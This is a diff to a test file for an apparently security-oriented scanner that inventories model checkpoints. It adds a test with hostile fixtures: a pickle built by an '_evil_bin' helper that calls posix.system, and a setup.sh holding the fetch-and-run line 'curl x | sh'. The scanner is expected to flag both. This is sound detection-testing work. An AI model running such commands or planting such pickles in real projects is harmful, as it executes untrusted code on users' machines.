@@ -100,6 +100,10 @@ def test_a_row_holds_what_summary_says(tree):
         "license": "apache-2.0",
         "error": None,
         "findings": "0",
+        "sha256": None,  # --deep's columns (test_inventory_deep.py)
+        "nan_values": None,
+        "inf_values": None,
+        "absmax": None,
     }
 
 
@@ -229,6 +233,23 @@ def test_a_model_folder_with_more_weights_inside_is_one_model(tree, tmp_path, ca
     )
     assert main(["scan", str(tmp_path)]) == 0
     assert capsys.readouterr().out.splitlines()[-1] == "2 checkpoints, 0 unreadable"
+
+
+def test_nested_checkpoints_are_counted_once(tree, tmp_path):
+    """A folder that holds a checkpoint and subfolders with checkpoints of their own: each
+    file counts in one row only (the parent's findings leave out its nested checkpoints')."""
+    from docs_examples import _evil_bin
+
+    shutil.copytree(tree / "single", tmp_path / "parent")
+    shutil.copytree(tree / "single", tmp_path / "parent" / "nested")
+    _evil_bin(str(tmp_path / "parent" / "nested" / "extra.bin"))  # a pickle calling posix.system
+    (tmp_path / "parent" / "tokenizer").mkdir()  # no checkpoint: the parent's
+    (tmp_path / "parent" / "tokenizer" / "setup.sh").write_text("curl x | sh\n")
+    rows = {os.path.relpath(r.location, tmp_path): r for r in api.inventory([str(tmp_path / "parent")]).rows}
+    assert {k: (r.parameters, r.findings) for k, r in rows.items()} == {
+        "parent": (69952, "high:1"),  # tokenizer/setup.sh, and not nested/extra.bin
+        os.path.join("parent", "nested"): (69952, "critical:1"),
+    }
 
 
 def test_sarif_is_for_one_model(tree, capsys):
